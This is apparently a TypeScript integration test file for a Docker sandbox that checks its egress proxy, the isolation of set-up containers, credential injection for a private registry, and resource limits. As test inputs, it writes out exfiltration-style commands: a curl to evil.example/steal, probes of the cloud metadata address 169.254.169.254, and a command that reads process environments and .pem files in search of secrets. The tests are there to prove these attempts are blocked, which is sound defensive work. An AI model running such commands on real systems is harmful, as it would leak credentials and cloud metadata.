import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { createServer as createSecureServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Docker from 'dockerode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { type DockerSettings, dockerSandboxes } from '../../../src/adapters/docker/docker-sandboxes.ts';
import type { Environment } from '../../../src/core/run.ts';
import { localCheckout } from '../../support/local-checkout.ts';

const docker = new Docker();
const owner = `test-${randomBytes(4).toString('hex')}`;
const bridge = await docker.getNetwork('bridge').inspect();
const address = bridge.IPAM?.Config?.[0]?.Gateway ?? '172.17.0.1';
const made: string[] = [];
const asked: string[] = [];
let local: Awaited<ReturnType<typeof localCheckout>>;
let registry: Server;
let at: string;

beforeAll(async () => {
  local = await localCheckout({ 'a.txt': owner });
  // Listens on every address of the host: the controls below show that it can be reached, the attacks that it cannot.
  registry = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end('package');
  }).listen(0, '0.0.0.0');
  await once(registry, 'listening');
  at = `${address}:${(registry.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await Promise.all(made.map((image) => docker.getImage(image).remove({ force: true })));
  registry.close();
  await local[Symbol.asyncDispose]();
});

async function setUp(
  commands: readonly string[],
  settings: Partial<DockerSettings> = {},
  signal: AbortSignal = AbortSignal.timeout(100_000),
): Promise<{ environment: Environment; left: () => Promise<string[]> }> {
  const run = `r${randomBytes(4).toString('hex')}`;
  const sandboxes = dockerSandboxes({
    docker: { socketPath: '/var/run/docker.sock' },
    owner,
    caCertificates: null,
    ...settings,
  });
  const plan = { language: 'none', image: 'node', setUp: commands };
  try {
    const environment = await sandboxes.prepare({ run, checkout: local.checkout, plan }, signal);
    if (!environment.cached) made.push(environment.image);
    return { environment, left: () => leftOf(run) };
  } finally {
    expect(await leftOf(run)).toEqual([]);
  }
}

async function leftOf(run: string): Promise<string[]> {
  const filters = { label: [`devstral.run=${run}`] };
  const containers = await docker.listContainers({ all: true, filters });
  const networks = await docker.listNetworks({ filters });
  return [...containers.map(({ Names }) => Names.join()), ...networks.map(({ Name }) => Name)];
}

describe('set-up’s network', () => {
  it('reaches a listed host through the proxy, and tells of every host that it did not reach', async () => {
    const commands = [
      `test "$(curl -sS http://${at}/one)" = package`,
      'curl -sS https://evil.example/steal?x=1; curl -sS http://169.254.169.254/latest/meta-data; true',
    ];
    const settings = { proxy: { privateHosts: [at] } };

    const { environment } = await setUp(commands, settings);
    const again = await setUp(commands, settings);

    expect(asked).toContain('/one');
    expect(environment.blocked).toEqual([
      { host: 'evil.example', why: 'not on the list of hosts', command: commands[1] },
      { host: '169.254.169.254:80', why: 'not on the list of hosts', command: commands[1] },
    ]);
    expect(again.environment).toMatchObject({ cached: true, blocked: environment.blocked });
  });

  it('has no other way out: no host of the engine, no address, no name', async () => {
    const port = at.split(':')[1];
    const probe = (url: string) => `curl -sS --noproxy '*' -m 2 ${url} >&2 && { echo "reached ${url}"; exit 1; }`;
    const commands = [
      `curl -sS http://${at}/control`,
      // The engine's bridge, this network's own gateway, a public address, the metadata service.
      probe(`http://${at}/direct`),
      `gateway=$(hostname -i | sed 's/[0-9]*$/1/'); ${probe(`http://$gateway:${port}/direct`)}`,
      probe('http://198.51.100.7/'),
      probe('http://169.254.169.254/'),
      'for name in example.com devstral-bot.invalid host.docker.internal; do getent hosts $name && exit 1; done; true',
      'if [ -e /proc/net/if_inet6 ]; then test -z "$(grep -v " lo$" /proc/net/if_inet6)"; fi',
    ].map((command) =>
      command.startsWith('curl -sS --noproxy') || command.startsWith('gateway') ? `${command}; true` : command,
    );

    await setUp(commands, { proxy: { privateHosts: [at] } });

    expect(asked).toContain('/control');
    expect(asked).not.toContain('/direct');
  });

  it('would let the host be reached if it were an ordinary internal network', async () => {
    const name = `control-${randomBytes(4).toString('hex')}`;
    const control = await docker.createNetwork({ Name: name, Internal: true });
    await using opened = new AsyncDisposableStack();
    opened.defer(async () => void (await control.remove()));
    const gateway = (await control.inspect()).IPAM?.Config?.[0]?.Gateway;
    const container = await docker.createContainer({
      Image: 'devstral-sandbox/node',
      Cmd: ['curl', '-sS', '-m', '10', `http://${gateway}:${at.split(':')[1]}/ordinary`],
      HostConfig: { NetworkMode: name },
    });
    opened.defer(async () => void (await container.remove({ force: true })));

    await container.start();
    await container.wait();

    expect(asked).toContain('/ordinary');
  });

  it('is, on the engine, what the template promises', async () => {
    const stop = new AbortController();
    const stopped = setUp(['sleep 60'], {}, stop.signal).catch((error: Error) => error.message);
    const filters = { label: [`devstral.owner=${owner}`] };
    await expect.poll(() => docker.listContainers({ filters }), { timeout: 20_000 }).toHaveLength(2);
    const found = await docker.listContainers({ filters });
    const inspect = (purpose: string) =>
      docker.getContainer(found.find(({ Labels }) => Labels['devstral.purpose'] === purpose)?.Id ?? '').inspect();
    const [container, proxy, [network]] = await Promise.all([
      inspect('set-up'),
      inspect('proxy'),
      docker.listNetworks({ filters }),
    ]);
    const onOrdinaryNetwork = fetch(`http://${proxy.NetworkSettings.Networks.bridge?.IPAddress}:3128`).then(
      () => 'answers',
      () => 'does not answer',
    );

    const hardened = { CapDrop: ['ALL'], SecurityOpt: ['no-new-privileges'], Privileged: false, Init: true };
    expect(network).toMatchObject({
      Internal: true,
      EnableIPv6: false,
      Options: { 'com.docker.network.bridge.inhibit_ipv4': 'true' },
    });
    expect(Object.keys(container.NetworkSettings.Networks)).toEqual([network?.Name]);
    expect(container.HostConfig).toMatchObject({ ...hardened, Dns: ['127.0.0.1'] });
    expect(Object.keys(proxy.NetworkSettings.Networks).sort()).toEqual(['bridge', network?.Name].sort());
    expect(proxy.HostConfig).toMatchObject({
      ...hardened,
      ReadonlyRootfs: true,
      PidsLimit: 64,
      Memory: 256 * 1024 ** 2,
    });
    expect(proxy.Mounts).toEqual([]);
    expect(proxy.Image).toMatch(/^sha256:/);
    expect(await onOrdinaryNetwork).toBe('does not answer');
    stop.abort(new Error('enough'));
    expect(await stopped).toBe('enough');
  });

  it('names what was blocked when set-up fails, and leaves nothing', async () => {
    const failing = setUp(['curl -sSf https://packages.example/x']);

    await expect(failing).rejects.toMatchObject({
      retry: 'never',
      message: expect.stringMatching(
        /ended with exit code \d+\.\nBlocked: host packages\.example \(not on the list of hosts\)\.\n.*SETUP_ALLOW_HOSTS[\s\S]*curl/,
      ),
    });
  });

  it('is gone when the run is stopped in the middle', async () => {
    const stop = new AbortController();
    const stopped = setUp(['sleep 60'], {}, stop.signal);
    setTimeout(() => stop.abort(new Error('enough')), 3000);

    await expect(stopped).rejects.toThrow('enough');
  });

  it('is found by its run when a worker dies', async () => {
    const run = `r${randomBytes(4).toString('hex')}`;
    const marked = { 'devstral.owner': owner, 'devstral.run': run };
    await docker.createNetwork({ Name: `devstral-${run}-set-up`, Labels: marked, Internal: true });
    const sandboxes = dockerSandboxes({ docker: { socketPath: '/var/run/docker.sock' }, owner, caCertificates: null });

    await sandboxes.removeLeftovers(async (id) => id === run);
    const before = await leftOf(run);
    await sandboxes.removeLeftovers(async () => false);

    expect(before).toEqual([`devstral-${run}-set-up`]);
    expect(await leftOf(run)).toEqual([]);
  });

  it('is not even made for a plan without commands', async () => {
    const { environment } = await setUp([]);

    expect(environment.blocked).toEqual([]);
  });
});

describe('a private registry', () => {
  it('is asked with the credential that the proxy adds, by TLS too, and set-up never sees it', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'registry-'));
    const script = join(import.meta.dirname, '../../../sandbox/proxy/make-certificate.sh');
    const authority = execFileSync('sh', [script, `IP:${address}`, folder], { encoding: 'utf8' });
    const [key, cert] = await Promise.all(['server.key', 'server.crt'].map((name) => readFile(join(folder, name))));
    const headers: string[] = [];
    const secure = createSecureServer({ key, cert }, (request, response) => {
      headers.push(`${request.method} ${request.url} ${request.headers.authorization}`);
      response.end('private package');
    }).listen(0, address);
    await once(secure, 'listening');
    const port = (secure.address() as AddressInfo).port;
    const url = `https://${address}:${port}`;
    const secret = `ours-${randomBytes(16).toString('hex')}`;

    const { environment } = await setUp(
      [
        `test "$(curl -sS -H 'Authorization: theirs' ${url}/one)" = "private package"`,
        `node -e 'fetch("${url}/two").then((answer) => answer.text()).then(console.log)'`,
        `curl -sS -X DELETE ${url}/three; curl -sS -H 'Host: evil.example' ${url}/four; true`,
        // Written so that the pattern does not find itself.
        '{ env; cat /proc/[0-9]*/environ 2>/dev/null; cat /tmp/*.pem; } | tr "\\0" "\\n" | grep -cE "ou""rs-[0-9a-f]+|PRIV""ATE"; true',
      ],
      {
        caCertificates: authority,
        proxy: { privateHosts: [`${address}:${port}`], credentials: { [url]: `Bearer ${secret}` } },
      },
    );

    secure.close();
    await rm(folder, { recursive: true });
    expect(headers).toEqual([`GET /one Bearer ${secret}`, `GET /two Bearer ${secret}`]);
    expect(environment.logTail).toContain('private package');
    expect(environment.logTail).toMatch(/\n0\n\n$/);
    expect(environment.logTail).not.toContain(secret);
    expect(environment.blocked?.map(({ why }) => why)).toEqual([
      'the method is DELETE',
      'the Host header names another host than the URL',
    ]);
  });
});

describe('set-up', () => {
  it('is killed when it fills its disk', async () => {
    const filling = setUp(['head -c 300000000 /dev/zero > /home/agent/big; sleep 60'], {
      limits: { setUpDiskBytes: 100_000_000 },
    });

    await expect(filling).rejects.toMatchObject({
      retry: 'never',
      message: expect.stringMatching(/filled the disk with more than 100 MB \(SETUP_DISK_MB\)/),
    });
  });

  it('is ended when it takes too long', async () => {
    await expect(setUp(['sleep 60'], { limits: { setUpMs: 3000 } })).rejects.toThrow(/took longer than 0.05 minutes/);
  });

  it('tries a command again that the network failed, once', async () => {
    const once = 'test -e /tmp/second || { touch /tmp/second; echo "read ECONNRESET"; exit 1; }';

    const { environment } = await setUp([once]);

    expect(environment.logTail.split('$ test').length).toBe(3);
    await expect(setUp(['echo x >> /tmp/tries; echo ETIMEDOUT; cat /tmp/tries; exit 1'])).rejects.toThrow(/x\nx$/);
  });
});
